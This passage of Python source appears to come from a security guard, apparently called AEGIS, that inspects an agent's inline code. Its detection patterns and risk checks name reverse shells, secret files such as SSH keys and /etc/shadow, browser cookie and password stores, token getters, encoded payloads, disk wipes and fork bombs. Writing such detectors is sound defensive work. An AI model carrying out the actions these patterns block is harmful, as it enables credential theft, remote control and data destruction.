_SOCKET_TO_SHELL = GuardedPattern(re.compile(r"dup2|pty|spawn|\bexec\w*\s*\(|\bexec\.|shell_exec|proc_open|passthru|system|fdopen|/bin/(?:ba)?sh|cmd\.exe|popen|subprocess|iex|"
                                              r"Invoke-Expression|:os\.cmd|System\.cmd|Process\.(?:run|start)"))
# Loading pickled objects runs whatever code the pickle names: from a download, that is downloaded code run.
UNPICKLES = GuardedPattern(re.compile(r"(?s)\b(?:pickle|cPickle|dill|cloudpickle|joblib|pd|pandas)\.(?:loads?|read_pickle)\s*\(|"
                                      r"torch\.load\s*\((?=.{0,300}?weights_only\s*=\s*False)|"
                                      r"(?:np|numpy)\.load\s*\((?=.{0,300}?allow_pickle\s*=\s*True)"))
_HUB_CODE = re.compile(r"(?s)torch\.hub\.load\s*\((?=.{0,300}?trust_repo\s*=\s*True)")
# Library calls that hand back a stored login token.
_TOKEN_GETTERS = GuardedPattern(re.compile(
    r"(?s)HfFolder\.get_token|\bhuggingface_hub\b.*\bget_token\s*\(|"
    r"netrc\.netrc\((?!\s*['\"](?!~)[^'\"]*['\"]\s*\)).*authenticators|"
    r"\bwandb\b.*\.api_key\b|KaggleApi\(\).*(?:get_config_value|config_values)|"
    r"\b(?:browser_cookie3|pycookiecheat|rookiepy)\b|"
    r"get_(?:frozen_)?credentials\(\).*\.(?:secret_key|token|secret_access_key)\b"))
# The home directory interpolated into a command string (Ruby `#{Dir.home}`, JavaScript `${os.homedir()}`, Python
# `{Path.home()}`): the shell sees `~`'s folder there.
_HOME_INTERPOLATION = re.compile(
    r"""#\{\s*(?:Dir\.home|ENV\[\s*['"]HOME['"]\s*\])\s*\}|"""
    r"""\$\{\s*(?:os\.homedir\(\)|process\.env\.HOME|Bun\.env\.HOME|Deno\.env\.get\(\s*['"]HOME['"]\s*\)!?)\s*\}|"""
    r"""\{\s*(?:Path\.home\(\)|os\.path\.expanduser\(\s*['"]~['"]\s*\)|os\.environ\[\s*['"]HOME['"]\s*\])\s*\}""")
# Hex or base64 text decoded by the code itself (`bytes.fromhex('6375…')`, `b64decode('Y3Vy…')`): what it spells.
_ENCODED_LITERAL = GuardedPattern(re.compile(r"""\b(fromhex|unhexlify|hex2bin|b64decode|decodebytes|FromBase64String)\(\s*b?(['"])([A-Za-z0-9+/=\s]{8,})\2"""))
# Text spelled as character codes: R `intToUtf8(c(99, 117, …))`, Lua `string.char(114, …)`, JavaScript
# `String.fromCharCode(…)`, PowerShell `[char[]](…)`, Python `bytes([…])`.
_CHARACTER_CODES = re.compile(r"(?:intToUtf8\(\s*c\(|string\.char\(|fromCharCode\(|\[char\[\]\]\s*\(|bytes\(\s*\[|"
                              r"map\(\s*chr\s*,\s*[\[(])\s*((?:\d+\s*,\s*){3,}\d+)")
# Text spelled as character codes or hex digits, in a path, a name or a command: Python's `chr(126)`,
# `"".join(map(chr, (97, 101)))`, `"".join(chr(c) for c in [97, 101])`, `bytes([97, 101]).decode()` and
# `bytes.fromhex("6165").decode()`, JavaScript's `String.fromCharCode(97, 101)`, Dart's `String.fromCharCodes([97, 101])`;
# base64 a call decodes (`b64decode("…")`, `atob("…")`, Dart's `base64.decode("…")`, Java's `getDecoder().decode("…")`).
_CODES = r"\s*((?:\d{1,3}\s*,\s*)*\d{1,3})\s*,?\s*"
_SPELLED_TEXT = GuardedPattern(re.compile(
    rf"(?<![\w.])chr\(\s*(\d{{1,3}})\s*\)|\bString\.fromCharCodes?\(\s*\[?{_CODES}\]?\s*\)|"
    rf"""(['"])\3\.join\(\s*(?:map\(\s*chr\s*,\s*[\[(]{_CODES}[\])]\s*\)|chr\(\s*(\w+)\s*\)\s*for\s+\5\s+in\s+[\[(]{_CODES}[\])])\s*\)|"""
    rf"""\bbytes\(\s*\[{_CODES}\]\s*\)\.decode\(\s*(?:['"][\w-]+['"])?\s*\)|"""
    r"""\b(?:bytes|bytearray)\.fromhex\(\s*(['"])((?:[0-9a-fA-F]{2})+)\8\s*\)\.decode\(\s*(?:['"][\w-]+['"])?\s*\)|"""
    r"""(?:\b(?:b64decode|base64\.decode|base64Decode|atob|FromBase64String)|\.getDecoder\(\)\.decode)\(\s*(['"])([A-Za-z0-9+/]{8,}={0,2})\10\s*\)"""))
# Go's text from bytes or runes: `string([]byte{100, 111})`, `string([]rune{'.', 'a'})`.
_GO_BYTES = re.compile(r"\bstring\(\s*\[\](?:byte|rune|uint8)\s*\{\s*((?:(?:\d{1,3}|'[^'\\\n]')\s*,\s*)*(?:\d{1,3}|'[^'\\\n]'))"
                       r"\s*,?\s*\}\s*\)")
# Text other languages decode or build from literals: PHP's `base64_decode('…')`, `hex2bin('…')` and `implode('',
# array_map('chr', […]))`, Ruby's `Base64.decode64("…")` and `"…".unpack1("m")`, Node's `Buffer.from('…',
# 'base64').toString()`, Rust's `['.', 's'].iter().collect()` and `concat!("ae", "gis")`.
_DECODED_CALL = GuardedPattern(re.compile(
    r"""\b(?:base64_decode|Base64\.(?:strict_)?decode64)\(\s*(['"])([A-Za-z0-9+/]{4,}={0,2})\1\s*\)|"""
    r"""(?:(['"])([A-Za-z0-9+/]{4,}={0,2})\3|%[qQ]?[(\[{]([A-Za-z0-9+/]{4,}={0,2})[)\]}])\.unpack1?\(\s*['"]m0?['"]\s*\)(?:\.first|\[0\])?|"""
    r"""\bBuffer\.from\(\s*(['"])([A-Za-z0-9+/]{4,}={0,2})\6\s*,\s*['"](base64|hex)['"]\s*\)\.toString\(\s*(?:['"][\w-]+['"])?\s*\)|"""
    r"""\bhex2bin\(\s*(['"])((?:[0-9a-fA-F]{2})+)\9\s*\)|"""
    rf"""\bimplode\(\s*(['"])\11\s*,\s*array_map\(\s*['"]chr['"]\s*,\s*\[{_CODES}\]\s*\)\s*\)|"""
    r"""\[\s*((?:'[^'\\\n]'\s*,\s*)+'[^'\\\n]')\s*,?\s*\]\s*\.(?:into_)?iter\(\)\s*(?:\.(?:copied|cloned)\(\)\s*)?\.collect(?:::<\s*String\s*>)?\(\)|"""
    r"""\bconcat!\(\s*((?:(?:"[^"\\\n]*"|env!\(\s*"HOME"\s*\))\s*,\s*)*"[^"\\\n]*")\s*,?\s*\)"""))


def _decoded_call(m: re.Match) -> str:
    if m.group(13) or m.group(14):
        listed = re.sub(r'env!\(\s*"HOME"\s*\)', '"~"', m.group(13) or m.group(14))
        return _quoted("".join(re.findall(r"""['"]([^'"]*)['"]""", listed)))
    if m.group(12):
        text = "".join(chr(int(n)) for n in re.findall(r"\d+", m.group(12)))
    elif m.group(10) or m.group(8) == "hex":
        text = bytes.fromhex(m.group(10) or m.group(7)).decode("latin-1")
    else:
        text = _base64_text(m.group(2) or m.group(4) or m.group(5) or m.group(7))
    return _printable_literal(text, m.group(0)) if text else m.group(0)


# Bun's and zx's shell templates: `` await $`rm -rf ${dir}` `` runs the template's text in a shell.
_SHELL_TEMPLATE = GuardedPattern(re.compile(r"(?<![\w$])\$`([^`]*)`"))
# Text rot13 hides: PHP's `str_rot13('nrtvf')`, Python's `codecs.decode('nrtvf', 'rot13')`.
_ROT13 = GuardedPattern(re.compile(r"""\bstr_rot13\(\s*(['"])((?:(?!\1)[^\\\n])*)\1\s*\)|"""
                                   r"""\bcodecs\.(?:de|en)code\(\s*(['"])((?:(?!\3)[^\\\n])*)\3\s*,\s*['"]rot_?13['"]\s*\)"""))
# Rust's text from bytes: `String::from_utf8(vec![97, 101])`, `String::from_utf8_lossy(&[0x2e, 0x73])`.
_RUST_BYTES = GuardedPattern(re.compile(r"\bfrom_utf8(?:_lossy|_unchecked)?\(\s*(?:vec!|&)\s*\[\s*((?:(?:0[xX][0-9a-fA-F]{1,2}|\d{1,3})(?:u8)?\s*,\s*)*"
                                        r"(?:0[xX][0-9a-fA-F]{1,2}|\d{1,3})(?:u8)?)\s*,?\s*\]\s*\)"))
# Zig's argument lists: `b.addSystemCommand(&.{ "sh", "-c", cmd })`, read as the `spawn([…])` it is.
_ZIG_COMMAND = GuardedPattern(re.compile(r"\b(?:addSystemCommand|Child\.init|Child\.run)\(\s*(?:\.\{[^{}]*?\.argv\s*=\s*)?&\.\{([^{}]*)\}"))
# Rust's `Command::new("rm").args(["-rf", &dir])` and `Command::new("sh").arg("-c").arg(cmd)`, read as `spawn(…)`.
_RUST_COMMAND = GuardedPattern(re.compile(r"""\bCommand::new\(\s*("[^"\n]+"|&?[A-Za-z_]\w*)\s*\)\s*(?:\.args\(\s*&?\[|"""
                                          r"""((?:\s*\.arg\(\s*(?:"[^"\n]*"|&?[A-Za-z_]\w*)\s*\))+))"""))
# Rust's `format!("/dev/{}{}", "sd", "a")`: the literal it makes, a name given the home folder as `~`, one given a literal as its text.
_BRACE_SLOT = re.compile(r"\{(?::\?)?\}")  # `{}`, `{:?}`
_BRACE_FORMATTED = re.compile(r"""\bformat!\(\s*"((?:[^"\\\n]|\\.)*)"\s*((?:,\s*(?:"[^"\\\n]*"|&?[A-Za-z_]\w*|\d+)\s*)*)\)""")


def _rust_text(code: str) -> str:
    """Rust code with its `format!` calls written as the literals they make (twice: a name may be given one), and its
    `Command::new(…)` calls as `spawn(…)`, a name given one literal as that literal."""
    homes = _home_names(code)
    for _ in range(2):
        constants = _constants(code)
        code = _BRACE_FORMATTED.sub(partial(_brace_formatted, homes=homes, constants=constants), code)
    constants = _constants(code)
    return _RUST_COMMAND.sub(lambda m: _rust_command(m, constants), code)


def _rust_command(m: re.Match, constants: dict[str, str]) -> str:
    program = m.group(1) if m.group(1).startswith('"') else _quoted(constants.get(m.group(1).lstrip("&"), _UNSHOWN))
    if m.group(2) is None:
        return f"spawn({program}, ["
    words = re.findall(r"""\.arg\(\s*("[^"\n]*"|&?[A-Za-z_]\w*)\s*\)""", m.group(2))
    return f"spawn({program}, [{', '.join(w.lstrip('&') for w in words)}])"


def _brace_formatted(m: re.Match, *, homes: set[str], constants: dict[str, str]) -> str:
    """One `format!` call as its literal: `{}` filled in order, `{name}` by the name, `{{`/`}}` as braces; a name given
    the home folder is `~`, one given a literal is its text, another stays `{name}`."""
    def value(name: str) -> str:
        return "~" if name in homes else constants.get(name, "{" + name + "}")
    values = [literal[1:-1] if literal else number or value(name)
              for literal, number, name in re.findall(r'("[^"\n]*")|\b(\d+)\b|&?([A-Za-z_]\w*)', m.group(2))]
    template = m.group(1).replace("{{", "\0").replace("}}", "\1")  # `{{` and `}}` are the braces themselves
    slots = _BRACE_SLOT.findall(template)
    if len(slots) != len(values) or re.search(r"\{[^}\w]", template):
        return m.group(0)
    text = re.sub(r"\{([A-Za-z_]\w*)\}", lambda n: value(n.group(1)), _BRACE_SLOT.sub(lambda _: values.pop(0), template))
    return _printable_literal(text.replace("\0", "{").replace("\1", "}"), m.group(0))


# Deno's `new Deno.Command("rm", { args: ["-rf", dir] })`, read as the `spawn("rm", ["-rf", dir])` it is.
_DENO_COMMAND = GuardedPattern(re.compile(r"""\bnew\s+Deno\.Command\(\s*((['"])[^'"\n]+\2)\s*,\s*\{\s*args\s*:\s*\["""))
# A shell call whose command is not a literal: with a download in the same code, it runs what was downloaded.
_COMPUTED_SHELL_CALL = re.compile(r"(?:os\.system|os\.popen|subprocess\.\w+|Popen|check_output|:os\.cmd)\s*\(\s*+(?![rbf]?['\"\[])|"
                                  r"\|>\s*:os\.cmd\(\s*\)|"
                                  r"['\"]-c['\"]\s*,\s*+(?![rbf]?['\"\[])")  # a shell given text the code computes
# Models whose own code is fetched and run: `from_pretrained('org/name', trust_remote_code=True)`.
_REMOTE_MODEL_CODE = re.compile(r"from_pretrained\(\s*['\"]([^'\"]+)['\"](?=[^)]*trust_remote_code\s*=\s*True)")
# Command lines held as data in code that runs anything: a list of words (`['mkfs.ext4', '-F', '/dev/sda1']`) or a
# string that starts with a destructive or fetching program (`'rm -rf /home/user'`); the code may hand them to a shell.
_DANGEROUS_PROGRAM = r"(?:rm|dd|mkfs(?:\.\w+)?|mke2fs|shred|wipefs|curl|wget|nc|ncat|sh|bash|zsh|chmod|chown|sudo)"
_COMMAND_LIST = re.compile(rf"\[\s*['\"]{_DANGEROUS_PROGRAM}['\"](?:\s*,\s*['\"][^'\"]*['\"])+\s*\]")
_COMMAND_TEXT = re.compile(rf"(['\"])({_DANGEROUS_PROGRAM}\s+-[^'\"]*?|{_DANGEROUS_PROGRAM}\s+(?:if|of)=[^'\"]*?)\1")
# A Chromium browser's stores of saved passwords, cookies and their key, named beside its profile folder (Windows).
_BROWSER_STORE = GuardedPattern(re.compile(
    r"(?i)(?:Chrome|Edge|Brave[-\w]*)[/\\]+User Data(?:.|\n){0,400}?['\"/\\](?:Login Data|Cookies|Local State)['\"]|"
    r"['\"/\\](?:Login Data|Cookies|Local State)['\"](?:.|\n){0,400}?(?:Chrome|Edge|Brave[-\w]*)[/\\]+User Data|"
    # … under Linux and macOS profile folders (`~/.config/google-chrome/Default/Cookies`), and Firefox's stores
    r"['\"/](?:google-chrome|chromium|Brave-Browser|microsoft-edge|Chrome)['\"/](?:.|\n){0,400}?['\"/](?:Login Data|Cookies)['\"]|"
    r"['\"/](?:cookies\.sqlite|logins\.json|key4\.db)['\"]"))
# A browser's cookies taken through automation (Puppeteer, Playwright, Selenium, the DevTools protocol).
_BROWSER_COOKIES = re.compile(r"\.cookies\(|getAllCookies|get_cookies\(|Network\.getCookies|Storage\.getCookies|"
                              r"storageState\(|storage_state\(|document\.cookie")
_SECRET_NAMES = r"(?:\.(?:ssh|aws|gnupg|netrc|git-credentials|password-store|azure)\b|\.kube[/\\]config|\.docker[/\\]config)"
# A secret's name inside a path (`/.ssh`, `~/.aws`, `C:\Users\x\.ssh`, `/id_rsa'`, `/etc/shadow`) …
_SECRET_NAME = GuardedPattern(re.compile(rf"(?:(?<=[/~])|(?<=[\w%}}~)]\\)){_SECRET_NAMES}|/id_(?:rsa|ed25519|ecdsa|dsa)['\"]|/etc/(?:g?shadow|sudoers)"))
# … or alone in quotes (`'.netrc'`, a pattern `r"\.ssh/id_"`): a secret only in code that also finds the home directory.
_BARE_SECRET_NAME = re.compile(rf"['\"]\\?{_SECRET_NAMES}|['\"]id_(?:rsa|ed25519|ecdsa|dsa)['\"]")


# Testcontainers' bind mounts (`.withFileSystemBind(System.getProperty("user.home") + "/.ssh", "/opt/keys")`): the host
# path (an expression of at most one level of calls) and the container path.
_CONTAINER_BIND = re.compile(r"""\b(?:withFileSystemBind|addFileSystemBind)\(\s*([^,()]*(?:\([^()]*\)[^,()]*)*?)\s*,\s*"([^"\n]+)\"""")


def _bound_host_path(expression: str, code: str, depth: int = 0) -> str | None:
    """The host path a bind mount's expression names: a literal, the home folder joined to literals, or a name given
    one of those."""
    expression = expression.strip()
    literals = re.findall(r'"([^"\n]*)"', _HOME_REFERENCE.sub("", expression))
    if _HOME_REFERENCE.search(expression):
        return "~/" + "/".join(part.strip("/") for part in literals if part.strip("/"))
    if re.fullmatch(r'"[^"\n]+"', expression):
        return literals[0]
    assigned = re.search(rf"\b{re.escape(expression)}\s*(?::\s*\w+\s*)?=\s*([^;\n]+)", code) \
        if re.fullmatch(r"[A-Za-z_]\w*", expression) and depth == 0 else None
    return _bound_host_path(assigned.group(1), code, 1) if assigned else None


def _with_container_binds(code: str) -> str:
    """Code whose containers are given host folders, with the container paths in its commands written as the host
    paths mounted there."""
    for m in _CONTAINER_BIND.finditer(code):
        host = _bound_host_path(m.group(1), code)
        if host and m.group(2).startswith("/") and len(m.group(2)) > 1:
            code = re.sub(rf"{re.escape(m.group(2).rstrip('/'))}(?=[/\s\"'$;]|$)", lambda _, h=host: h.rstrip("/"), code)
    return code


# A double-quoted literal holding a letter's escape (`"aeg\x69s"`, `"\u0073h"`, `"\u{73}h"`), and one such escape.
_ESCAPED_LITERAL = re.compile(r'"(?:[^"\\\n]|\\.)*?\\[xu](?:[^"\\\n]|\\.)*"')
_LETTER_ESCAPE = re.compile(r"\\(?:x([0-9a-fA-F]{2})|u\{([0-9a-fA-F]{2,4})\}|u00([0-9a-fA-F]{2}))")


# C++'s string made from one literal (`std::string("ku")`), which joins with `+` as the literal does.
_STRING_OF_LITERAL = re.compile(r"""\bstd::string\(\s*("(?:[^"\\\n]|\\.)*")\s*\)""")


def _letters_unescaped(code: str) -> str:
    """The code with letters, digits and path punctuation that double-quoted literals spell as escapes written out."""
    def letter(m: re.Match) -> str:
        c = chr(int(m.group(1) or m.group(2) or m.group(3), 16))
        return c if c.isascii() and (c.isalnum() or c in "./_-~: ") else m.group(0)
    return _ESCAPED_LITERAL.sub(lambda m: _LETTER_ESCAPE.sub(letter, m.group(0)), code) if "\\" in code else code


def code_risks(code: str, ctx: ActionContext, from_file: bool = False) -> tuple[list[ActionRisk], list[str]]:
    """Risks read from inline code, and the shell command strings it hands to a shell (judged by the caller). Code
    from a file of the project (`from_file`) that reads no secret it names, sends nothing and runs nothing holds the
    secrets' names it mentions as data (a guard's list, a test's cases, a scanner's patterns)."""
    code = _PHP_SEPARATOR.sub("'/'", _PATH_SEPARATOR.sub('"/"', _letters_unescaped(code)))
    if "std::string(" in code:
        code = _STRING_OF_LITERAL.sub(r"\1", code)
    spelled, code = code, _spelled_out(code)
    spelled_out = code != spelled
    code = _DENO_COMMAND.sub(r"spawn(\1, [", code)
    code = _ZIG_COMMAND.sub(r"spawn([\1]", code)
    if "FileSystemBind" in code:
        code = _with_container_binds(code)
    while _NESTED_FILE.search(code):
        code = _NESTED_FILE.sub(r"File(\1, \2, \3)", code)
    if _FORMATTED.search(code):
        homes = _home_names(code)
        code = _FORMATTED.sub(lambda m: _formatted(m, homes), code)
    code = _REVERSED_LITERAL.sub(lambda m: (m.group(1) or m.group(3)) + (m.group(2) or m.group(4) or "")[::-1]
                                 + (m.group(1) or m.group(3)), code)
    if ("reverse" in code or "[::-1]" in code) and (reversed_names := {
            next(g for g in m.groups() if g) for m in _REVERSED_IN_PLACE.finditer(code)}):
        code = _literals_reversed(code, reversed_names)
    if "os.User" in code and "RemoveAll(" in code:
        code = _go_paths_written_out(code)
    if _REVERSES.search(code) and (reversers := _reversing_functions(code)):
        code = re.sub(r"""\b(?:""" + "|".join(map(re.escape, reversers)) + r""")\(\s*(['"`])([^'"`\n]*)\1\s*\)""",
                      lambda m: m.group(1) + m.group(2)[::-1] + m.group(1), code)
    code = _imploded(_PERCENT_FORMATTED.sub(_percent_formatted, code))
    code = _WORD_LIST_JOINED.sub(lambda m: '"' + "".join(m.group(1).split()) + '"', code)
    code = _WORD_LIST_SPREAD.sub(lambda m: ", ".join(f'"{w}"' for w in m.group(1).split()), code)
    code = ruby_word_lists_quoted(code)
    if "#{" in code:  # a literal interpolated into a Ruby string (`".#{"aws"}"`) is part of its text
        code = re.sub(r"""#\{\s*(['"])([^'"{}\n]*)\1\s*\}""", r"\2", code)
    if "#{" in code and "ENV" in code:
        code = _environment_interpolated(code)
    code = _REVERSED_LIST_JOINED.sub(lambda m: _quoted("".join(re.findall(r"""['"]([^'"\n]*)['"]""", m.group(1)))[::-1]), code)
    while ".push(" in code and _PATH_PUSHES.search(code):
        code = _PATH_PUSHES.sub(r"\1.join(\2, \3)", code)
    code = _SPACE_JOINED_LIST.sub(lambda m: _command_line(m.group(1)), code)
    code = _EMPTY_JOINED_LIST.sub(lambda m: _one_literal(m.group(1) or m.group(6)), code)
    code = _JOINED_TEXT_LIST.sub(lambda m: _one_literal(m.group(1) or m.group(2)), code)
    code = _CONCAT_CALL.sub(lambda m: _quoted((m.group(1) or "").join(re.findall(r'"([^"\n]*)"', m.group(2)))), code)
    sequences: list[str] = []  # the paths they make count as joined paths too
    code = _JOINED_SEQUENCE.sub(lambda m: _quoted_sequence(m, sequences), code)
    code = _adjacent_joined(_JOINED_LITERALS.sub("", _environment_defaults(code)))  # '/etc/' + 'sha' + 'dow': '/etc/shadow'
    code = _SEPARATOR_JOINED_LIST.sub(lambda m: _quoted((m.group(5) or m.group(7)).join(
        re.findall(r"""['"]([^'"\n]*)['"]""", m.group(1) or m.group(8)))), code)
    code = _PASTED_LITERALS.sub(lambda m: _one_literal(m.group(1)), _added(_homes_added(code)))
    code = _added(_with_constants(_joined_variables(code)))
    code = _JOINED_LIST.sub(lambda m: _one_literal(m.group(3)) if any(m.group(g) is not None for g in (1, 2, 4, 5))
                            or m.group(0).startswith("join(") or m.group(0).endswith(".concat()") else m.group(0), code)
    if "format!(" in code or "Command::new(" in code:
        code = _rust_text(code)
    reaches_out = bool(_runs_commands(code) or _SENDS.search(code) or _JVM_FETCH.search(code) or _opens_socket(code))
    # Code that makes a temporary folder the home (a test's isolation) and neither runs, fetches nor sends anything
    # names secrets only as files of that folder.
    fake_home = bool(_FAKE_HOME.search(code) and _TEMPORARY.search(code)) and not reaches_out and not _FETCH.search(code)
    names = (not from_file or reaches_out or _reads_secret(code)) and not fake_home
    risks = [r for r in mentions(code, ctx) if names or r.rule_id != "act.path.secrets"]
    if names and (_SECRET_NAME.search(code) or _BARE_SECRET_NAME.search(code) and _HOME_REFERENCE.search(code)):
        risks.append(ActionRisk(DENY, "secrets", "inline code names a secret file", "act.code.secrets"))
    if names and _HOME_TOKEN_FILE.search(code) and _HOME_REFERENCE.search(code):
        risks.append(ActionRisk(DENY, "secrets", "inline code reads a token file in the home directory", "act.code.secrets"))
    joined = [_joined_path(m) for m in _JOINED_NAMES.finditer(code)
              if _PATH_JOIN.search(code[max(0, m.start() - 60):m.start()]) or re.search(r"""['"]\s*/\s*['"]""", m.group(0))]
    joined += [path for path in sequences if "/" in path]
    names_aegis = _AEGIS_DATA.search(code) or any(_AEGIS_DATA.search(j) for j in joined) or any(
        inside(resolve(m.group(1), ctx), ctx.aegis_home) for m in _QUOTED_PATH.finditer(code)) or any(
        fnmatchcase("aegis", m.group(1)) for text in (code, *joined) for m in _AEGIS_BY_GLOB.finditer(text)) or (
        _DATA_HOME.search(code) and (_AEGIS_NAME.search(code) or any(
            re.search(r"[a-z]", g) and fnmatchcase("aegis", g) for g in _GLOB_PART.findall(code))))
    if names_aegis and _WRITES.search(code):
        risks.append(ActionRisk(DENY, "tamper", "inline code changes AEGIS's own files", "act.code.aegis"))
    deletes_tree = _TREE_DELETE.search(code)
    paths = _normalized_literals(_CAKE_PATH.sub(r"\1", code))
    literal_roots = [resolve(m.group(2), ctx) for m in _LITERAL_TREE_DELETE.finditer(paths)]
    if deletes_tree and (named := _NAMED_TREE_DELETE.findall(code)):
        constants = {m.group(1): m.group(3) for m in _STRING_CONSTANT.finditer(paths)}
        literal_roots += [resolve(constants[n], ctx) for n in named if n in constants]
    if deletes_tree and (_HOME_REFERENCE.search(code) or any(holds_everything(p, ctx) for p in literal_roots)):
        risks.append(ActionRisk(DENY, "destructive", "inline code deletes the home directory or the system",
                                "act.code.delete_root"))
    if _BROWSER_COOKIES.search(code) and (_FETCH.search(code) or _JVM_FETCH.search(code) or REAL_BROWSER_PROFILE.search(code)):
        risks.append(ActionRisk(DENY, "secrets", "inline code takes a browser's cookies and sends them", "act.code.cookies"))
    if _BROWSER_STORE.search(code):
        risks.append(ActionRisk(DENY, "secrets", "inline code takes a browser's saved passwords or cookies", "act.code.cookies"))
    if _TOKEN_GETTERS.search(code):
        risks.append(ActionRisk(DENY, "secrets", "inline code reads a stored login token", "act.code.secrets"))
    if _FETCH.search(code) and _COMPUTED_SHELL_CALL.search(code):
        risks.append(ActionRisk(DENY, "remote_code", "inline code runs a command it downloads", "act.code.remote"))
    if any(not resolve(m.group(1), ctx).exists() for m in _REMOTE_MODEL_CODE.finditer(code)):
        risks.append(ActionRisk(DENY, "remote_code", "inline code runs a model's own code from the internet", "act.code.remote"))
    if _FETCH.search(code) and UNPICKLES.search(code) or _HUB_CODE.search(code):
        risks.append(ActionRisk(DENY, "remote_code", "inline code unpickles what it downloads (runs its code)",
                                "act.code.remote"))
    runs_text = _RUN_TEXT.search(code) or _PIPE_TO_SHELL.search(code) and _runs_commands(code)
    if _FETCH.search(code) and runs_text or _REMOTE_SOURCE.search(code) or _sources_download(code):
        risks.append(ActionRisk(DENY, "remote_code", "inline code runs code it downloads", "act.code.remote"))
    if _ENCODED_POWERSHELL.search(code):
        risks.append(ActionRisk(DENY, "obfuscated", "inline code starts PowerShell with an encoded command", "act.code.decoded"))
    if names and _HOME_REFERENCE.search(code) and any(_HOME_TOKEN_FILE.search("/" + j) for j in joined):
        risks.append(ActionRisk(DENY, "secrets", "inline code reads a token file in the home directory", "act.code.secrets"))
    for path in joined if names else []:
        if is_secret(Path("/joined", path)):
            risks.append(ActionRisk(DENY, "secrets", f"inline code builds the path of a secret ({path})",
                                    "act.code.secrets"))
    if _CREDENTIAL_FROM_ENVIRONMENT.search(code) and (_FETCH.search(code) or _JVM_FETCH.search(code)) and \
            _WRITTEN_ADDRESS.search(code):
        risks.append(ActionRisk(DENY, "secrets", "inline code sends a credential from the environment off the machine",
                                "act.code.env_exfiltration"))
    if _WHOLE_ENVIRONMENT.search(code) and _FETCH.search(code):
        risks.append(ActionRisk(DENY, "secrets", "inline code sends the environment (tokens, keys) off the machine",
                                "act.code.env_exfiltration"))
    if _DECODE.search(code) and (runs_text or _COMPUTED_SHELL_CALL.search(code)):
        risks.append(ActionRisk(DENY, "obfuscated", "inline code runs decoded, hidden code", "act.code.decoded"))
    if _RAW_DISK_IN_CODE.search(code) and _WRITES.search(code):
        risks.append(ActionRisk(DENY, "destructive", "inline code writes a raw disk", "act.code.disk"))
    if any(holds_everything(everything_in(resolve(m.group(2), ctx)) if re.search(r"-Recurse", m.group(1) + m.group(3), re.I)
                            else resolve(m.group(2), ctx), ctx) for m in _PS_DELETE.finditer(code)):
        risks.append(ActionRisk(DENY, "destructive", "inline code deletes the home directory or a whole drive",
                                "act.code.delete_root"))
    if _DISK_WIPE.search(code) or _DRIVE_DELETE.search(code):
        risks.append(ActionRisk(DENY, "destructive", "inline code erases a disk or a whole drive", "act.code.disk"))
    if _FORK_LOOP.search(code):
        risks.append(ActionRisk(DENY, "destructive", "inline code forks in a loop (fork bomb)", "act.code.fork_bomb"))
    if _opens_socket(code) and _SOCKET_TO_SHELL.search(code) or _SHELL_OVER_TCP.search(code) and _runs_commands(code):
        risks.append(ActionRisk(DENY, "exfiltration", "inline code wires a network socket to a shell",
                                "act.code.reverse_shell"))
    risks.append(ActionRisk(ESCALATE, "code", "runs arbitrary inline code", "act.shell.inline_code"))
    commands = [_HOME_INTERPOLATION.sub("~", m.group(2)) for m in _SHELL_CALL.finditer(code)] + _decoded_literals(code)
    commands += [t for t in _decoded_literals(spelled) if t not in commands] if spelled_out else []
    commands += _operator_commands(code) + _argv_commands(code) + pipeline_steps(code) + scala_processes(code) + cake_processes(code)
    commands += sshkit_commands(code)
    if _WHENEVER_JOB.search(code):  # a `whenever` schedule's cron jobs
        commands += [m.group(2) for m in _WHENEVER_COMMAND.finditer(code)]
    if named_calls := list(_NAMED_SHELL_CALL.finditer(code)):
        constants = _constants(code)
        commands += [constants[m.group(1)] for m in named_calls if m.group(1) in constants]
    commands += [m.group(1).replace('\\"', '"') for m in _TUIST_SCRIPT.finditer(code)]
    commands += [_HOME_INTERPOLATION.sub("~", m.group(1)) for m in _SHELL_TEMPLATE.finditer(code)]
    commands += [m.group(1).replace('\\"', '"') for m in _UNREAL_BUILD_STEP.finditer(code)]
    commands += [f"{m.group(1) or m.group(3)} {m.group(2) or m.group(4)}" for m in _CSHARP_PROCESS.finditer(code)]
    commands += [shlex.join(re.sub(r"\\(.)", r"\1", m2.group(2)) for m2 in _NOX_WORD.finditer(m.group(1)))
                 for m in _NOX_RUN.finditer(code)]
    return risks, commands + [m.group(1) or m.group(2) for m in _PERL_CALL.finditer(code)]


# C#'s processes: `new ProcessStartInfo("security", "find-internet-password -w")`, `Process.Start("x", "args")`, or
# `FileName = "x"` with `Arguments = "args"` in one initializer; the arguments are one command line.
_CSHARP_PROCESS = re.compile(r"""\b(?:new\s+(?:System\.Diagnostics\.)?ProcessStartInfo|(?:System\.Diagnostics\.)?Process\.Start)\(\s*"""
                             r"""@?"([^"\n]+)"\s*,\s*\$?@?"([^"\n]*)"|"""
                             r'\bFileName\s*=\s*@?"([^"\n]+)"[^{}]*?\bArguments\s*=\s*\$?@?"([^"\n]*)"')
# Unreal's `PreBuildSteps.Add("…")` and `PostBuildSteps.Add("…")` in a `.Target.cs`: run on every build of the target.
_UNREAL_BUILD_STEP = re.compile(r'\b(?:Pre|Post)BuildSteps\.Add\(\s*@?"((?:[^"\\\n]|\\.)*)"\s*\)')
# Tuist's target scripts (`.pre(script: "swiftlint")`, `.post(script: …)`): run on every build of the target.
_TUIST_SCRIPT = re.compile(r'\.(?:pre|post)\(\s*script:\s*"((?:[^"\\\n]|\\.)*)"')
# Cake's `StartProcess("tar", new ProcessSettings { Arguments = $"czf a.tgz -C \"{h}\" .ssh" })`: the program and its
# arguments, a C# interpolation of a name given the home folder written as `~`, of any other name as a variable.
_CAKE_PROCESS = re.compile(r"""\bStartProcess\(\s*"([^"]+)"\s*,\s*new\s+ProcessSettings\s*\{[^}]*?\bArguments\s*=\s*"""
                           r'\$?@?"((?:[^"\\\n]|\\.)*)"')


def cake_processes(code: str) -> list[str]:
    if "StartProcess" not in code:
        return []
    homes = _home_names(code)
    return [m.group(1) + " " + re.sub(r"\{(\w+)\}", lambda n: "~" if n.group(1) in homes else "$" + n.group(1),
                                      m.group(2).replace('\\"', '"')) for m in _CAKE_PROCESS.finditer(code)]


# Capistrano's (SSHKit's) `execute :rm, "-rf", path`, `test`, `capture`: a command from symbols, literals and names.
_SSHKIT_CALL = re.compile(r"(?<![\w.])(?:execute|test|capture)\b\s*(\(?)[ \t]*(:\w+[^\n]*)")
# Capistrano's settings: `set :root, "/srv"`, `set :cache, -> { ENV.fetch("CACHE", Dir.home) }`.
